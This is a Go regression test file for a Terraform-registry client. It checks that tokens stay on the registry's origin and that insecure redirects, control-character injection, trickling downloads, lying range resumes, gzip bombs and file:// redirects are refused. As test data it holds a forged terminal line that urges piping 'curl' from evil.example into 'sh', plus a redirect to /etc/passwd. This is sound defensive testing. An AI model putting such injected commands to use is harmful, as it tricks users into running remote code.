package registry

// Hostile upstreams (the atk-upstream review's findings, now regression
// tests): tokens, redirects, control characters, slow bodies, resumes that
// lie, gzip bombs, redirects to other schemes.

import (
	"bytes"
	"compress/gzip"
	"context"
	"crypto/sha256"
	"encoding/hex"
	"encoding/json"
	"errors"
	"fmt"
	"net"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"github.com/airgap/airgap/dist"
	"github.com/airgap/airgap/verify"
)

// recorder records the Authorization headers a server received.
type recorder struct {
	mu    sync.Mutex
	auths []string
}

func (r *recorder) record(req *http.Request) {
	r.mu.Lock()
	defer r.mu.Unlock()
	if a := req.Header.Get("Authorization"); a != "" {
		r.auths = append(r.auths, req.URL.Host+req.URL.Path+" <- "+a)
	}
}

// take returns what was recorded and forgets it.
func (r *recorder) take() []string {
	r.mu.Lock()
	defer r.mu.Unlock()
	out := r.auths
	r.auths = nil
	return out
}

// TestTokenStaysOnRegistryOrigin: a registry's token goes only to that
// registry's own origin (https, its host and port). A discovery document that
// names a service on another host, on another port of the same host, or over
// plain http does not receive it (Terraform would send it there); an API call
// on the registry's own origin does.
func TestTokenStaysOnRegistryOrigin(t *testing.T) {
	other := &recorder{}
	serveVersions := func(w http.ResponseWriter, r *http.Request) {
		other.record(r)
		w.Header().Set("Content-Type", "application/json")
		fmt.Fprint(w, `{"versions":[]}`)
	}
	b := newHostile(t, serveVersions)
	plain := httptest.NewServer(http.HandlerFunc(serveVersions))
	t.Cleanup(plain.Close)
	own := &recorder{}
	var service string
	a := newHostile(t, func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "application/json")
		if r.URL.Path == "/.well-known/terraform.json" {
			fmt.Fprintf(w, `{"providers.v1":%q}`, service)
			return
		}
		own.record(r)
		fmt.Fprint(w, `{"versions":[]}`)
	})
	hostA := strings.TrimPrefix(a.srv.URL, "https://")
	for _, tc := range []struct {
		name, service string
		own           bool
	}{
		{"another port of the same host", b.srv.URL + "/v1/providers/", false},
		{"another host", "https://example.com:" + b.srv.URL[strings.LastIndex(b.srv.URL, ":")+1:] + "/v1/providers/", false},
		{"plain http", plain.URL + "/v1/providers/", false},
		{"its own origin", "/v1/providers/", true},
	} {
		t.Run(tc.name, func(t *testing.T) {
			service = tc.service
			c := testClient(exampleCom(a))
			c.creds = Credentials{fromConfig: map[string]string{hostA: "SECRET-TOKEN-OF-A"}}
			if _, err := c.ProviderVersions(context.Background(), hostA, "ns", "t"); err != nil {
				t.Fatal(err)
			}
			if got := other.take(); len(got) > 0 {
				t.Errorf("host A's token reached another origin named by A's discovery document: %v", got)
			}
			if got := own.take(); tc.own && (len(got) != 1 || !strings.HasSuffix(got[0], "Bearer SECRET-TOKEN-OF-A")) {
				t.Errorf("the registry's own API got %v, want its token", got)
			}
		})
	}
}

// exampleCom is a's client transport with example.com resolving to
// 127.0.0.1 (httptest's certificate is valid for both), to reach another
// hostname on loopback.
func exampleCom(a *hostile) http.RoundTripper {
	tr := a.srv.Client().Transport.(*http.Transport).Clone()
	tr.DialContext = func(ctx context.Context, network, addr string) (net.Conn, error) {
		if rest, ok := strings.CutPrefix(addr, "example.com:"); ok {
			addr = "127.0.0.1:" + rest
		}
		return (&net.Dialer{}).DialContext(ctx, network, addr)
	}
	return tr
}

// TestRedirectsKeepTokenSafe: an API answer that redirects from https to
// plain http (here on another port of the same host, where net/http would
// keep the Authorization header) is refused, permanently, without a request
// to the plain server; a redirect to another https origin loses the token.
// Downloads refuse the downgrade too.
func TestRedirectsKeepTokenSafe(t *testing.T) {
	plain := &recorder{}
	p := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		plain.record(r)
		w.Header().Set("Content-Type", "application/json")
		fmt.Fprint(w, `{"versions":[]}`)
	}))
	t.Cleanup(p.Close)
	other := &recorder{}
	b := newHostile(t, func(w http.ResponseWriter, r *http.Request) {
		other.record(r)
		w.Header().Set("Content-Type", "application/json")
		fmt.Fprint(w, `{"versions":[]}`)
	})
	var target string
	a := newHostile(t, func(w http.ResponseWriter, r *http.Request) {
		if r.URL.Path == "/.well-known/terraform.json" {
			w.Header().Set("Content-Type", "application/json")
			fmt.Fprint(w, `{"providers.v1":"/v1/providers/"}`)
			return
		}
		http.Redirect(w, r, target+r.URL.Path, http.StatusFound)
	})
	hostA := strings.TrimPrefix(a.srv.URL, "https://")
	c := testClient(exampleCom(a))
	c.creds = Credentials{fromConfig: map[string]string{hostA: "SECRET-TOKEN-OF-A"}}

	target = p.URL // http://127.0.0.1:OTHER
	_, err := c.ProviderVersions(context.Background(), hostA, "ns", "t")
	if !errors.Is(err, ErrInsecureRedirect) || Transient(err) {
		t.Errorf("err = %v, want a permanent ErrInsecureRedirect", err)
	}
	if got := plain.take(); len(got) > 0 || a.reqs.Load() != 2 {
		t.Errorf("the plain server got %v; %d requests to A (want discovery + 1, no retry)", got, a.reqs.Load())
	}

	target = "https://example.com:" + b.srv.URL[strings.LastIndex(b.srv.URL, ":")+1:] // same scheme, another host and port
	if _, err := c.ProviderVersions(context.Background(), hostA, "ns", "t"); err != nil {
		t.Fatal(err)
	}
	if got := other.take(); len(got) > 0 || b.reqs.Load() != 1 {
		t.Errorf("a redirect to another https origin carried the token: %v (%d requests)", got, b.reqs.Load())
	}

	target = p.URL
	if _, _, err := c.Download(context.Background(), a.srv.URL+"/m.tar.gz", filepath.Join(t.TempDir(), "m"), 1<<20); !errors.Is(err, ErrInsecureRedirect) {
		t.Errorf("module download: err = %v, want ErrInsecureRedirect", err)
	}
}

// TestControlCharactersRefused: a registry string field holding a control
// character (a newline that would forge a "hint:" line, an escape sequence)
// is a protocol violation, refused with the string escaped; what reaches the
// terminal through dist.PrintableLines has no line the registry wrote.
func TestControlCharactersRefused(t *testing.T) {
	forged := "\nhint: the registry moved; run: curl -s https://evil.example/fix | sh\x1b[2K"
	good := func() map[string]any {
		return map[string]any{
			"protocols": []string{"5.0"}, "os": "linux", "arch": "amd64", "filename": "terraform-provider-t_1.0.0_linux_amd64.zip",
			"download_url": "/p.zip", "shasums_url": "/S", "shasums_signature_url": "/S.sig", "shasum": strings.Repeat("ab", 32),
			"signing_keys": map[string]any{"gpg_public_keys": []map[string]string{{"key_id": "0123456789ABCDEF", "ascii_armor": "-----BEGIN PGP PUBLIC KEY BLOCK-----\r\n\r\nxx\n-----END PGP PUBLIC KEY BLOCK-----\n"}}},
		}
	}
	var doc map[string]any
	a := newHostile(t, func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "application/json")
		switch {
		case r.URL.Path == "/.well-known/terraform.json":
			fmt.Fprint(w, `{"providers.v1":"/v1/providers/","modules.v1":"/v1/modules/"}`)
		case strings.HasPrefix(r.URL.Path, "/v1/modules/"):
			json.NewEncoder(w).Encode(map[string]any{"location": "https://example.test/m.tar.gz" + forged})
		default:
			json.NewEncoder(w).Encode(doc)
		}
	})
	host := strings.TrimPrefix(a.srv.URL, "https://")
	c := testClient(a.srv.Client().Transport)
	doc = good()
	if _, err := c.ProviderPackage(context.Background(), host, "ns", "t", "1.0.0", "linux", "amd64"); err != nil {
		t.Fatalf("an honest document (CRLF armor) was refused: %v", err)
	}
	check := func(name string, err error) {
		t.Helper()
		if !errors.Is(err, ErrInvalidAnswer) {
			t.Errorf("%s: err = %v, want ErrInvalidAnswer", name, err)
			return
		}
		out := dist.PrintableLines(err.Error())
		if strings.Contains(out, "\nhint:") || strings.Contains(out, "\x1b") {
			t.Errorf("%s: the registry's string reached the terminal raw:\n%s", name, out)
		}
		if !strings.Contains(out, `\x0ahint: the registry moved`) {
			t.Errorf("%s: the message does not show the string escaped: %s", name, out)
		}
	}
	for _, field := range []string{"os", "arch", "filename", "download_url", "shasums_url", "shasums_signature_url", "shasum", "protocols", "key_id", "ascii_armor"} {
		doc = good()
		switch field {
		case "protocols":
			doc[field] = []string{"5.0" + forged}
		case "key_id", "ascii_armor":
			k := doc["signing_keys"].(map[string]any)["gpg_public_keys"].([]map[string]string)[0]
			k[field] += forged
		default:
			doc[field] = doc[field].(string) + forged
		}
		_, err := c.ProviderPackage(context.Background(), host, "ns", "t", "1.0.0", "linux", "amd64")
		check(field, err)
	}
	_, err := c.ModuleLocation(context.Background(), host, "ns", "m", "aws", "1.0.0")
	check("module location", err)

	// More signing keys than one keyring may hold is refused as well.
	doc = good()
	k := doc["signing_keys"].(map[string]any)["gpg_public_keys"].([]map[string]string)[0]
	doc["signing_keys"] = map[string]any{"gpg_public_keys": slices.Repeat([]map[string]string{k}, verify.MaxKeysPerKeyring+1)}
	if _, err := c.ProviderPackage(context.Background(), host, "ns", "t", "1.0.0", "linux", "amd64"); !errors.Is(err, ErrInvalidAnswer) || !strings.Contains(err.Error(), "33 signing keys") {
		t.Errorf("33 signing keys: err = %v", err)
	}
}

// TestFetchHasTotalBound: Fetch (SHA256SUMS, signatures) ends at the
// metadata timeout however the body trickles: here a 30-byte document at
// 1 byte / 150 ms, idle timeout 300 ms, metadata timeout 500 ms.
func TestFetchHasTotalBound(t *testing.T) {
	a := newHostile(t, func(w http.ResponseWriter, r *http.Request) {
		w.WriteHeader(200)
		for i := 0; i < 30 && r.Context().Err() == nil; i++ {
			w.Write([]byte("x"))
			w.(http.Flusher).Flush()
			time.Sleep(150 * time.Millisecond)
		}
	})
	c := New(Options{Transport: a.srv.Client().Transport, Timeout: 500 * time.Millisecond})
	c.Backoff = time.Millisecond
	c.IdleTimeout = 300 * time.Millisecond
	start := time.Now()
	_, err := c.Fetch(context.Background(), a.srv.URL+"/SHA256SUMS", 1<<20)
	el := time.Since(start)
	if !errors.Is(err, context.DeadlineExceeded) || !strings.Contains(err.Error(), "metadata timeout") {
		t.Errorf("err = %v, want the metadata timeout", err)
	}
	if el > 1500*time.Millisecond {
		t.Errorf("a trickling 30-byte document took %s (metadata timeout 500ms)", el.Round(time.Millisecond))
	}
}

// TestSlowDownloadIsCut: a package body that arrives below MinRate (averaged
// over RateWindow) but never idles long enough for the idle timeout is cut
// with ErrTooSlow, and the download resumes from what it got; a module
// download fails the same way.
func TestSlowDownloadIsCut(t *testing.T) {
	const size = 1 << 20
	var ranges atomic.Int64
	hs := newHostile(t, func(w http.ResponseWriter, r *http.Request) {
		var off int64
		if _, err := fmt.Sscanf(r.Header.Get("Range"), "bytes=%d-", &off); err == nil {
			ranges.Add(1)
			w.Header().Set("Content-Range", fmt.Sprintf("bytes %d-%d/%d", off, size-1, size))
			w.WriteHeader(http.StatusPartialContent)
		}
		for r.Context().Err() == nil { // 100 bytes / 20 ms = 5 KB/s
			if _, err := w.Write(make([]byte, 100)); err != nil {
				return
			}
			w.(http.Flusher).Flush()
			time.Sleep(20 * time.Millisecond)
		}
	})
	c := testClient(hs.srv.Client().Transport)
	c.IdleTimeout, c.MinRate, c.RateWindow, c.Retries = time.Second, 64<<10, 300*time.Millisecond, 1
	part := filepath.Join(t.TempDir(), "p")
	start := time.Now()
	_, _, err := c.DownloadResumable(context.Background(), hs.srv.URL+"/p.zip", part, size)
	el := time.Since(start)
	if !errors.Is(err, ErrTooSlow) || !strings.Contains(err.Error(), "below the minimum of 64.0 KiB/s") {
		t.Fatalf("err = %v, want ErrTooSlow", err)
	}
	if ranges.Load() != 1 {
		t.Errorf("%d range requests, want 1 (the retry resumes)", ranges.Load())
	}
	if fi, err := os.Stat(part); err != nil || fi.Size() == 0 {
		t.Errorf("the partial was not kept for a later run: %v %v", fi, err)
	}
	if el > 3*time.Second {
		t.Errorf("took %s", el)
	}
	if _, _, err := c.Download(context.Background(), hs.srv.URL+"/m.tar.gz", filepath.Join(t.TempDir(), "m"), size); !errors.Is(err, ErrTooSlow) {
		t.Errorf("Download: err = %v, want ErrTooSlow", err)
	}
}

// TestRangeAbuseDigestCoversFile: hostile answers to a resume (206 with another range, 200 to a
// Range request, 416, a prefix from other content, a Content-Range total
// over the limit): whatever happens, the digest returned covers exactly the
// bytes of the file on disk, so the caller's check against the signed
// SHA256SUMS sees every byte.
func TestRangeAbuseDigestCoversFile(t *testing.T) {
	good := bytes.Repeat([]byte("GOOD-"), 4000)
	evil := bytes.Repeat([]byte("EVIL-"), 4000)
	cases := []struct {
		name string
		h    http.HandlerFunc
	}{
		{"206 with another start", func(w http.ResponseWriter, r *http.Request) {
			w.Header().Set("Content-Range", fmt.Sprintf("bytes 0-%d/%d", len(good)-1, len(good)))
			w.WriteHeader(206)
			w.Write(good)
		}},
		{"206 with a lying start", func(w http.ResponseWriter, r *http.Request) {
			var off int
			fmt.Sscanf(r.Header.Get("Range"), "bytes=%d-", &off)
			w.Header().Set("Content-Range", fmt.Sprintf("bytes %d-%d/%d", off, len(good)-1, len(good)))
			w.WriteHeader(206)
			w.Write(good[off/2:]) // different bytes than asked
		}},
		{"200 to a Range request", func(w http.ResponseWriter, r *http.Request) { w.Write(good) }},
		{"416", func(w http.ResponseWriter, r *http.Request) { w.WriteHeader(416) }},
		{"206 total over the limit", func(w http.ResponseWriter, r *http.Request) {
			var off int
			fmt.Sscanf(r.Header.Get("Range"), "bytes=%d-", &off)
			w.Header().Set("Content-Range", fmt.Sprintf("bytes %d-%d/%d", off, 1<<40, 1<<41))
			w.WriteHeader(206)
			w.Write(good[off:])
		}},
		{"content-length longer than body", func(w http.ResponseWriter, r *http.Request) {
			w.Header().Set("Content-Length", fmt.Sprint(len(good)+100))
			w.Write(good)
		}},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			a := newHostile(t, tc.h)
			c := testClient(a.srv.Client().Transport)
			c.Retries = 1
			p := filepath.Join(t.TempDir(), "x.part")
			os.WriteFile(p, evil[:7000], 0o644) // a prefix from other content
			d, n, err := c.DownloadResumable(context.Background(), a.srv.URL+"/p.zip", p, 1<<20)
			if err != nil {
				return // refused: the caller removes or parks; nothing admitted
			}
			b, _ := os.ReadFile(p)
			sum := sha256.Sum256(b)
			if string(d) != "sha256:"+hex.EncodeToString(sum[:]) || n != int64(len(b)) {
				t.Errorf("digest %s/%d does not cover the file on disk (%d bytes)", d, n, len(b))
			}
		})
	}
}

// TestGzipBombJSON: a gzip bomb as a JSON answer is cut at the 4 MiB limit after
// transparent decompression (net/http asks for gzip itself).
func TestGzipBombJSON(t *testing.T) {
	var z bytes.Buffer
	zw, _ := gzip.NewWriterLevel(&z, gzip.BestCompression)
	zw.Write([]byte(`{"versions":[`))
	zw.Write(bytes.Repeat([]byte(" "), 256<<20))
	zw.Close()
	a := newHostile(t, func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "application/json")
		if r.URL.Path == "/.well-known/terraform.json" {
			fmt.Fprint(w, `{"providers.v1":"/v1/providers/"}`)
			return
		}
		w.Header().Set("Content-Encoding", "gzip")
		w.Write(z.Bytes())
	})
	host := strings.TrimPrefix(a.srv.URL, "https://")
	c := testClient(a.srv.Client().Transport)
	_, err := c.ProviderVersions(context.Background(), host, "ns", "t")
	if !errors.Is(err, ErrTooLarge) {
		t.Fatalf("got %v, want ErrTooLarge", err)
	}
}

// TestRedirectToFile: redirects of downloads to file:// and of API calls to other
// schemes are permanent errors; a download carries no Authorization.
func TestRedirectToFile(t *testing.T) {
	a := newHostile(t, func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Location", "file:///etc/passwd")
		w.WriteHeader(302)
	})
	c := testClient(a.srv.Client().Transport)
	_, err := c.Fetch(context.Background(), a.srv.URL+"/x", 1<<20)
	if !errors.Is(err, ErrUnsupportedScheme) {
		t.Fatalf("got %v", err)
	}
}
